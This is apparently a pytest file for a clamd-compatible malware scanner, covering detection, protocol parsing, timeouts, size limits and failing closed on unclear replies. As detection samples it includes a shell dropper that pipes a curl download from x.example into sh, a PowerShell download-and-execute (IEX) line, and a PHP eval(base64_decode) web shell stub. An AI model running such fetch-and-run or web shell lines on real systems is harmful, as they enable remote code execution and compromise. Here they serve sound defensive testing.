"""The clamd protocol, client and server, over real sockets: finds what it knows and fails closed."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path

import pytest

from assay.files.scanning import ClamdScanner, Clean, Found, ScannerUnavailable, TooLargeToScanError
from assay.servers.scanner import ScannerServer
from assay.settings import Settings
from tests.files.scanner_process import running_scanner
from tests.support.hostile_files import EICAR, PROGRAM
from tests.support.sample_files import GOOD_FILES, zipped

DROPPER = b"#!/bin/sh\ncurl -s http://x.example/a | sh\n"
POWERSHELL = b"powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://x.example')"


@contextmanager
def serving(**options: int) -> Iterator[ScannerServer]:
    with ScannerServer(0, **options) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture(scope="module")
def server() -> Iterator[ScannerServer]:
    with serving() as running:
        yield running


@pytest.fixture
def scan(server: ScannerServer, tmp_path: Path) -> Callable[[bytes], Clean | Found]:
    def run(data: bytes) -> Clean | Found:
        path = tmp_path / "sent"
        path.write_bytes(data)
        return client(server).scan(path)

    return run


def client(server: ScannerServer, **options: float) -> ClamdScanner:
    return ClamdScanner(f"tcp://127.0.0.1:{server.server_address[1]}", **options)


def said(server: ScannerServer, data: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", server.server_address[1]), timeout=10) as connection:
        connection.sendall(data)
        answer = b""
        while part := connection.recv(4096):
            answer += part
        return answer


@pytest.mark.parametrize(
    ("label", "data", "name"),
    [
        ("eicar", EICAR, "Assay.Eicar.Test.File"),
        ("eicar behind text", b"x" * 1000 + EICAR, "Assay.Eicar.Test.File"),
        ("eicar on the border of two windows", b"x" * (16 * 1024 * 1024 - 20) + EICAR, "Assay.Eicar.Test.File"),
        ("eicar in a zip", zipped({"a/b.txt": EICAR}), "Assay.Eicar.Test.File"),
        ("eicar in a zip in a zip", zipped({"a.zip": zipped({"b.txt": EICAR})}), "Assay.Eicar.Test.File"),
        ("windows program", PROGRAM, "Assay.Windows.Program"),
        ("linux program", b"\x7fELF\2\1\1" + bytes(99), "Assay.Linux.Program"),
        ("shell script", DROPPER, "Assay.Shell.Dropper"),
        ("powershell", POWERSHELL, "Assay.Powershell.Dropper"),
        ("powershell in utf-16", POWERSHELL.decode().encode("utf-16-le"), "Assay.Powershell.Dropper"),
        ("web shell", b"<?php eval(base64_decode('eA==')); ?>", "Assay.Php.Web.Shell"),
    ],
    ids=lambda value: value if isinstance(value, str) and " " in value else None,
)
def test_known_things_are_found(label: str, data: bytes, name: str, scan: Callable[[bytes], Clean | Found]) -> None:
    assert scan(data) == Found(name)


@pytest.mark.parametrize("name", sorted(GOOD_FILES))
def test_good_files_are_clean(name: str, scan: Callable[[bytes], Clean | Found]) -> None:
    assert scan(GOOD_FILES[name]) == Clean()


@pytest.mark.parametrize("data", [b"", b"PK\3\4 not a zip", zipped({"a": b"x" * 1_000_000})])
def test_odd_streams_are_clean(data: bytes, scan: Callable[[bytes], Clean | Found]) -> None:
    assert scan(data) == Clean()


def test_both_forms_of_a_command_are_understood(server: ScannerServer) -> None:
    assert said(server, b"zPING\0") == b"PONG\0"
    assert said(server, b"nPING\n") == b"PONG\n"
    assert said(server, b"nINSTREAM\n" + struct.pack("!I", 3) + b"abc" + bytes(4)) == b"stream: OK\n"
    assert said(server, b"zNONSENSE\0") == b"UNKNOWN COMMAND\0"
    assert said(server, b"PING") == b""
    assert said(server, b"z" + b"x" * 100) == b""


def test_ping_and_version(server: ScannerServer) -> None:
    client(server).ping()
    assert "Assay scanner" in client(server).version()


def test_many_files_at_once(server: ScannerServer, tmp_path: Path) -> None:
    paths = []
    for number in range(24):
        path = tmp_path / str(number)
        path.write_bytes(EICAR if number % 3 == 0 else b"x" * 100_000)
        paths.append(path)
    with ThreadPoolExecutor(12) as pool:
        verdicts = list(pool.map(client(server).scan, paths))
    assert [isinstance(verdict, Found) for verdict in verdicts] == [number % 3 == 0 for number in range(24)]


def test_it_listens_on_the_loopback_address_only(server: ScannerServer) -> None:
    assert server.socket.getsockname()[0] == "127.0.0.1"


def test_past_the_largest_stream_there_will_never_be_a_verdict(tmp_path: Path) -> None:
    path = tmp_path / "sent"
    path.write_bytes(bytes(3_000_000))
    with serving(largest_stream=1_000_000) as small, pytest.raises(TooLargeToScanError):
        client(small).scan(path)


@pytest.mark.parametrize(
    "reply",
    [
        b"INSTREAM size limit exceeded. ERROR\0",
        b"stream: Heuristics.Limits.Exceeded FOUND\0",
        b"stream: Heuristics.Limits.Exceeded.MaxFileSize FOUND\0",
    ],
)
def test_a_limit_of_the_scanner_is_not_taken_for_malware(reply: bytes, tmp_path: Path) -> None:
    (tmp_path / "sent").write_bytes(b"x")
    with answering(reply) as scanner, pytest.raises(TooLargeToScanError):
        scanner.scan(tmp_path / "sent")


def test_the_scanner_that_comes_along_takes_the_largest_file_that_can_be_set() -> None:
    # Without streaming 2 GiB: the two numbers agree.
    [largest] = [each.le for each in Settings.model_fields["max_media_bytes"].metadata if hasattr(each, "le")]
    with serving() as server:
        assert server.largest_stream == largest


def test_nobody_there_is_no_verdict(tmp_path: Path) -> None:
    (tmp_path / "sent").write_bytes(b"x")
    with socket.socket() as reserved:
        reserved.bind(("127.0.0.1", 0))
        scanner = ClamdScanner(f"tcp://127.0.0.1:{reserved.getsockname()[1]}", timeout=5)
        with pytest.raises(ScannerUnavailable):
            scanner.scan(tmp_path / "sent")
        with pytest.raises(ScannerUnavailable):
            scanner.ping()


@pytest.mark.parametrize("reply", [b"", b"stream: OK", b"\0", b"stream: \0", b"FOUND\0", b"OK FOUNDX\0", b"x" * 9000])
def test_an_unclear_answer_is_no_verdict(reply: bytes, tmp_path: Path) -> None:
    (tmp_path / "sent").write_bytes(b"x")
    with answering(reply) as scanner, pytest.raises(ScannerUnavailable):
        scanner.scan(tmp_path / "sent")


def test_a_scanner_that_says_nothing_runs_into_the_time_out(tmp_path: Path) -> None:
    (tmp_path / "sent").write_bytes(b"x")
    with socket.socket() as silent:
        silent.bind(("127.0.0.1", 0))
        silent.listen()
        scanner = ClamdScanner(f"tcp://127.0.0.1:{silent.getsockname()[1]}", timeout=0.2)
        with pytest.raises(ScannerUnavailable):
            scanner.scan(tmp_path / "sent")


def test_a_verdict_over_a_unix_socket(tmp_path: Path) -> None:
    (tmp_path / "sent").write_bytes(b"x")
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(tmp_path / "s"))
        listening.listen()
        with _answered(listening, b"stream: Win.Test FOUND\0"):
            verdict = ClamdScanner(f"unix://{tmp_path}/s", timeout=5).scan(tmp_path / "sent")
    assert verdict == Found("Win.Test")


@pytest.mark.parametrize("url", ["", "http://x:1", "tcp://host", "unix://", "3310"])
def test_an_address_that_is_none_is_refused(url: str) -> None:
    with pytest.raises(ValueError, match="not a scanner address"):
        ClamdScanner(url)


def test_the_program_starts_and_stops_cleanly(tmp_path: Path) -> None:
    (tmp_path / "sent").write_bytes(EICAR)
    with running_scanner() as url:
        assert isinstance(ClamdScanner(url).scan(tmp_path / "sent"), Found)


@contextmanager
def answering(reply: bytes) -> Iterator[ClamdScanner]:
    """A client of a listener that reads the stream and answers `reply`."""
    with socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        listening.listen()
        with _answered(listening, reply):
            yield ClamdScanner(f"tcp://127.0.0.1:{listening.getsockname()[1]}", timeout=5)


@contextmanager
def _answered(listening: socket.socket, reply: bytes) -> Iterator[None]:
    def answer() -> None:
        connection, _ = listening.accept()
        with connection:
            received = b""
            while not received.endswith(bytes(4)):
                received += connection.recv(4096)
            connection.sendall(reply)

    thread = threading.Thread(target=answer)
    thread.start()
    try:
        yield
    finally:
        thread.join()
